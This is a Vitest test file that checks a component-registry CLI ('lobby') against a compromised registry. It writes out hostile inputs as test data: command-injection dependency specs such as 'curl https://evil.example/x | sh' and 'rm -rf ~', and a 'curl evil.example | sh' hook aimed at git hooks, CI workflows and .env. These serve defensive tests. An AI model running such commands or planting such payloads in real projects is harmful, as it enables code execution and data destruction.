import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { baseItems, type FixtureItem, writeRegistry } from '../helpers/fixtureRegistry.ts'
import { useInitializedHosts } from '../helpers/initializedHost.ts'
import { runLobby } from '../helpers/runLobby.ts'

const initializedHost = useInitializedHosts()
const BUTTON = 'src/components/lobby/ui/button.tsx'

/** The fixture registry with the button item changed by `change`. */
function withButton(change: (button: FixtureItem) => FixtureItem): FixtureItem[] {
  return baseItems().map((item) => (item.name === 'button' ? change(item) : item))
}

/** A host initialised on a good registry, whose registry then turns hostile (a compromised update). */
async function hostWithHostileRegistry(items: FixtureItem[]) {
  const host = await initializedHost()
  writeRegistry(items, host.registry)
  return { ...host, config: readFileSync(join(host.root, 'lobby.json'), 'utf8') }
}

describe('lobby add against a hostile registry', () => {
  describe('dependency specs (only npm name@range reaches the package manager)', () => {
    it.each([
      ['a shell command after the name', 'left-pad; curl https://evil.example/x | sh'],
      ['cmd.exe command chaining', 'left-pad&calc.exe'],
      ['command substitution in the range', 'left-pad@$(touch pwned)'],
      ['a tarball URL', 'https://evil.example/evil-1.0.0.tgz'],
      ['a git URL', 'git+ssh://git@evil.example/evil.git'],
      ['a file: path', 'file:../../evil'],
      ['an npm: alias', 'left-pad@npm:evil-package'],
      ['a package-manager flag', '--global'],
    ])('attack: a dependency that is %s is refused with nothing written and nothing installed', async (_name, spec) => {
      const { root, config } = await hostWithHostileRegistry(
        withButton((button) => ({ ...button, dependencies: [spec] })),
      )
      const run = await runLobby(root, ['add', 'button'])
      expect(run.code).toBe(1)
      expect(run.err).toContain('[registry.invalid]')
      expect(run.err).toContain(`item "button" lists ${JSON.stringify(spec)}`)
      expect(run.execs).toEqual([])
      expect(existsSync(join(root, BUTTON))).toBe(false)
      expect(existsSync(join(root, 'src/lib/utils.ts'))).toBe(false)
      expect(readFileSync(join(root, 'lobby.json'), 'utf8')).toBe(config)
    })

    it('attack: a devDependency with a shell command is refused too', async () => {
      const spec = 'typescript && rm -rf ~'
      const { root } = await hostWithHostileRegistry(withButton((button) => ({ ...button, devDependencies: [spec] })))
      const run = await runLobby(root, ['add', 'button'])
      expect(run.code).toBe(1)
      expect(run.err).toContain(`item "button" lists "typescript && rm -rf ~"`)
      expect(run.execs).toEqual([])
      expect(existsSync(join(root, BUTTON))).toBe(false)
    })

    it('a name with a semver range, a comparator set or a dist-tag is installed as one argument each', async () => {
      const { root } = await hostWithHostileRegistry(
        withButton((button) => ({ ...button, dependencies: ['left-pad@>=1.0.0 <2', '@scope/pkg@next', 'is-odd'] })),
      )
      const run = await runLobby(root, ['add', 'button'])
      expect(run.code, run.err).toBe(0)
      expect(run.execs).toEqual([['npm', 'i', 'left-pad@>=1.0.0 <2', '@scope/pkg@next', 'is-odd']])
      expect(existsSync(join(root, BUTTON))).toBe(true)
    })
  })

  describe('registry URLs (https only; http for this machine)', () => {
    const recordingFetch = (registry: string, requested: string[]) =>
      (async (input: string | URL | Request) => {
        const url = String(input)
        requested.push(url)
        const file = join(registry, url.slice(url.lastIndexOf('/') + 1))
        return existsSync(file) ? new Response(readFileSync(file, 'utf8')) : new Response('', { status: 404 })
      }) as typeof fetch

    /** `lobby add button --registry <url>`: refused before any request, nothing written. */
    const expectRegistryRefused = async (url: string) => {
      const { root, registry, config } = await hostWithHostileRegistry(baseItems())
      const requested: string[] = []
      const run = await runLobby(root, ['add', 'button', '--registry', url], {
        fetch: recordingFetch(registry, requested),
      })
      expect(run.code).toBe(1)
      expect(run.err).toContain('[registry.insecure]')
      expect(run.err).toContain('only https:// is accepted')
      expect(requested).toEqual([])
      expect(existsSync(join(root, BUTTON))).toBe(false)
      expect(readFileSync(join(root, 'lobby.json'), 'utf8')).toBe(config)
    }

    it.each([
      ['plain http to another host', 'http://registry.evil.example/r'],
      ['plain http to a LAN address', 'http://192.168.1.20:8080/r/registry.json'],
    ])('attack: --registry with %s is refused before any request, nothing written', async (_name, url) => {
      await expectRegistryRefused(url)
    })

    it.each([
      ['an ftp URL', 'ftp://registry.evil.example/r'],
      ['a file URL', 'file:///etc/registry'],
    ])('--registry with %s is refused before any request, nothing written', async (_name, url) => {
      await expectRegistryRefused(url)
    })

    it('attack: an https registry that redirects to http is refused, nothing written', async () => {
      const { root, registry } = await hostWithHostileRegistry(baseItems())
      const downgrade = (async (input: string | URL | Request) => {
        const url = String(input).replace('https://registry.example.test', 'http://registry.example.test')
        const file = join(registry, url.slice(url.lastIndexOf('/') + 1))
        const response = new Response(readFileSync(file, 'utf8'))
        Object.defineProperty(response, 'url', { value: url })
        return response
      }) as typeof fetch
      const run = await runLobby(root, ['add', 'button', '--registry', 'https://registry.example.test/r'], {
        fetch: downgrade,
      })
      expect(run.code).toBe(1)
      expect(run.err).toContain('[registry.insecure]')
      expect(existsSync(join(root, BUTTON))).toBe(false)
    })

    it('attack: lobby init does not remember an http registry on another host', async () => {
      const { root, registry } = await hostWithHostileRegistry(baseItems())
      rmSync(join(root, 'lobby.json'))
      const requested: string[] = []
      const run = await runLobby(root, ['init', '--registry', 'http://registry.evil.example/r'], {
        fetch: recordingFetch(registry, requested),
      })
      expect(run.code).toBe(1)
      expect(run.err).toContain('[registry.insecure]')
      expect(requested).toEqual([])
      expect(existsSync(join(root, 'lobby.json'))).toBe(false)
    })

    it.each([
      ['https', 'https://registry.example.test/r'],
      ['http on 127.0.0.1', 'http://127.0.0.1:4873/r'],
      ['http on localhost', 'http://localhost:4873/r/registry.json'],
      ['http on [::1]', 'http://[::1]:4873/r'],
    ])('reads a registry over %s', async (_name, url) => {
      const { root, registry } = await hostWithHostileRegistry(baseItems())
      const requested: string[] = []
      const run = await runLobby(root, ['add', 'button', '--registry', url], {
        fetch: recordingFetch(registry, requested),
      })
      expect(run.code, run.err).toBe(0)
      expect(requested.length).toBeGreaterThan(0)
      expect(existsSync(join(root, BUTTON))).toBe(true)
    })
  })

  describe('targets (no hidden folders, nothing outside the project, no symlink out)', () => {
    it.each([
      ['a git hook', '~/.git/hooks/pre-commit', '.git/hooks/pre-commit'],
      ['a git hook without the root prefix', '.git/hooks/post-checkout', '.git/hooks/post-checkout'],
      ['VS Code tasks', '~/.vscode/tasks.json', '.vscode/tasks.json'],
      ['a CI workflow', '~/.github/workflows/release.yml', '.github/workflows/release.yml'],
      ['the env file', '~/.env', '.env'],
      ['an encoded .git', '~/%2egit/hooks/pre-commit', '.git/hooks/pre-commit'],
    ])(
      'attack: an item writing %s is refused with nothing written and nothing installed',
      async (_name, target, lands) => {
        const { root, config } = await hostWithHostileRegistry(
          withButton((button) => ({
            ...button,
            dependencies: ['left-pad@^1.3.0'],
            files: [
              ...(button.files ?? []),
              {
                path: 'registry/ui/hook',
                type: 'registry:file',
                content: '#!/bin/sh\ncurl evil.example | sh\n',
                target,
              },
            ],
          })),
        )
        const run = await runLobby(root, ['add', 'button'])
        expect(run.code).toBe(1)
        expect(run.err).toContain('[target.unsafe]')
        expect(run.err).toContain('hidden file or folder')
        expect(existsSync(join(root, lands))).toBe(false)
        expect(existsSync(join(root, BUTTON))).toBe(false)
        expect(run.execs).toEqual([])
        expect(readFileSync(join(root, 'lobby.json'), 'utf8')).toBe(config)
      },
    )

    describe('through a symlink', () => {
      const outsides: string[] = []
      afterEach(() => {
        for (const dir of outsides.splice(0)) rmSync(dir, { recursive: true, force: true })
      })

      it('attack: a components folder that is a symlink out of the project is not written through', async () => {
        const { root } = await hostWithHostileRegistry(baseItems())
        const outside = mkdtempSync(join(tmpdir(), 'lobby-outside-'))
        outsides.push(outside)
        mkdirSync(join(root, 'src/components'), { recursive: true })
        symlinkSync(outside, join(root, 'src/components/lobby'))
        const run = await runLobby(root, ['add', 'button'])
        expect(run.code).toBe(1)
        expect(run.err).toContain('[target.unsafe]')
        expect(readdirSync(outside)).toEqual([])
        expect(run.execs).toEqual([])
      })
    })
  })
})
